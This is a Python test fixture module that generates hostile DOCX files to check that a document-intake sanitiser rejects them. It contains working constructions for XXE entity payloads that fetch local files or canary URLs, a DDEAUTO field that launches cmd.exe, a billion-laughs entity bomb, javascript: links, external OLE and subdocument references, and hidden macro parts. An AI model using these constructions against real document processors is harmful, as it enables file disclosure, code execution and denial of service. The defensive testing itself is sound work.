"""Hostile DOCX files."""

from __future__ import annotations

from tests.intake import offices
from tests.intake.attacks import Attack, Canary, fixed
from tests.intake.offices import packed, relations, word, word_parts, words

_LEADS_OUT = "leads to something that lies outside"
_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="x"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="1" name="x"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:{}="rId1"/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData>'
    "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
)


def external_picture(target: str) -> bytes:
    """A DOCX that shows a picture which lies elsewhere."""
    return word(_PICTURE.format("link"), ("image", target, "External"))


def _drawn(target: str) -> bytes:
    shape = f'<v:shape style="width:9pt;height:9pt"><v:imagedata src="{target}"/></v:shape>'
    return word(f"<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>")


def _holding(name: str, data: bytes, kind: str | None, body: str = words("x")) -> bytes:
    """A DOCX with a part more; without `kind` nothing leads to it."""
    related = ((kind, name),) if kind else ()
    return packed({**word_parts(body, *related), f"word/{name}": data})


def _macros() -> bytes:
    parts = word_parts()
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = offices.types("/word/document.xml", kind)
    return packed(parts)


def field(*instruction: str) -> str:
    """A paragraph with a field whose instruction is in so many pieces."""
    pieces = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in instruction)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    said = "<w:r><w:t>what it says</w:t></w:r>"
    return f"<w:p>{mark.format('begin')}{pieces}{mark.format('separate')}{said}{mark.format('end')}</w:p>"


def _with_dtd(dtd: str, encoding: str = "utf-8") -> bytes:
    parts = word_parts()
    document = parts["word/document.xml"]
    assert isinstance(document, str)
    told = document.replace("UTF-8", encoding.upper()).replace('yes"?>\n', f'yes"?>\n{dtd}').replace("note", "&x;")
    return packed({**parts, "word/document.xml": told.encode(encoding)})


def _laughs() -> str:
    rows = "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefghi", "bcdefghix", strict=True))
    return f'<!DOCTYPE w:document [<!ENTITY a "ha">{rows}]>'


def _xxe(target: str) -> str:
    return f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{target}">]>'


def _deep() -> bytes:
    return word("<w:p>" * 5000 + "</w:p>" * 5000)


def _theme_xxe(canary: Canary) -> bytes:
    theme = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "{canary.url}/e.dtd"> %x;]><a/>'
    return _holding("theme.xml", theme.encode(), "theme")


def _chart(canary: Canary) -> bytes:
    parts = word_parts(words("x"), ("chart", "chart.xml"))
    parts["word/chart.xml"] = '<c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
    parts["word/_rels/chart.xml.rels"] = relations(("oleObject", f"{canary.file}", "External"))
    return packed(parts)


ATTACKS = (
    Attack("image-http.docx", lambda canary: external_picture(f"{canary.url}/a.png"), _LEADS_OUT),
    Attack("image-file.docx", lambda canary: external_picture(canary.picture), _LEADS_OUT),
    Attack("image-share.docx", fixed(lambda: external_picture("\\\\127.0.0.1\\share\\a.png")), _LEADS_OUT),
    Attack("image-vml.docx", lambda canary: _drawn(f"{canary.url}/v.png"), _LEADS_OUT),
    Attack("alt-chunk.docx", fixed(lambda: _holding("c.html", b"<html/>", "aFChunk")), "another document"),
    Attack("alt-chunk-http.docx", lambda canary: word(words("x"), ("aFChunk", f"{canary.url}/c", "External")),
           "another document"),
    Attack("sub-document.docx", lambda canary: word(words("x"), ("subDocument", canary.file, "External")),
           "another document"),
    Attack("frame.docx", lambda canary: word(words("x"), ("frame", canary.url, "External")), "frame"),
    Attack("link-file.docx", lambda canary: word(words("x"), ("hyperlink", canary.file, "External")), "link to a file"),
    Attack("link-script.docx", fixed(lambda: word(words("x"), ("hyperlink", "javascript:alert(1)", "External"))),
           "link to a file"),
    Attack("chart-link.docx", _chart, "embedded object"),
    Attack("ole.docx", fixed(lambda: _holding("ole.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "oleObject")),
           "embedded object"),
    Attack("ole-link.docx", lambda canary: word(words("x"), ("oleObject", canary.file, "External")), "embedded object"),
    Attack("activex.docx", fixed(lambda: _holding("activeX1.xml", b"<ax/>", "control")), "ActiveX"),
    Attack("embedded-file.docx", fixed(lambda: _holding("book.xlsx", offices.sheet(), "package")), "another file"),
    Attack("embedded-book.docx", fixed(lambda: _holding("embeddings/book.xlsx", offices.sheet(), "package")),
           "an embedded file"),
    Attack("orphan.docx", fixed(lambda: _holding("payload.js", b"alert(1)", None)), "no part of it"),
    Attack("program.docx", fixed(lambda: _holding("payload.png", b"MZ\x90\x00", "image")), "another file"),
    Attack("eps-as-png.docx", fixed(lambda: _holding("a.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(x) run", "image")),
           "no kind that is taken"),
    Attack("macros.docm", fixed(_macros), "macros"),
    Attack("macros-renamed.docx", fixed(lambda: _holding("vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", None)),
           "macros"),
    Attack("macros-hidden.docx", fixed(lambda: _holding("v.bin", b"Attribute VB_Name", "vbaProject")), "macros"),
    Attack("include-picture.docx", lambda canary: word(field(f'INCLUDEPICTURE "{canary.url}/i.png"')),
           "INCLUDEPICTURE"),
    Attack("include-text.docx", lambda canary: word(field("INCLUDE", f'TEXT "{canary.file}"')), "INCLUDETEXT"),
    Attack("dde.docx", fixed(lambda: word(field("DDEAUTO c:\\\\windows\\\\cmd.exe", ' "/k calc"'))), "DDEAUTO"),
    Attack("xxe-file.docx", lambda canary: _with_dtd(_xxe(canary.file)), "DTD"),
    Attack("xxe-http.docx", lambda canary: _with_dtd(_xxe(f"{canary.url}/x")), "DTD"),
    Attack("xxe-utf-16.docx", lambda canary: _with_dtd(_xxe(canary.file), "utf-16"), "DTD"),
    Attack("xxe-theme.docx", _theme_xxe, "DTD"),
    Attack("laughs.docx", fixed(lambda: _with_dtd(_laughs())), "DTD|damaged"),
    Attack("deep.docx", fixed(_deep), "damaged"),
)  # fmt: skip
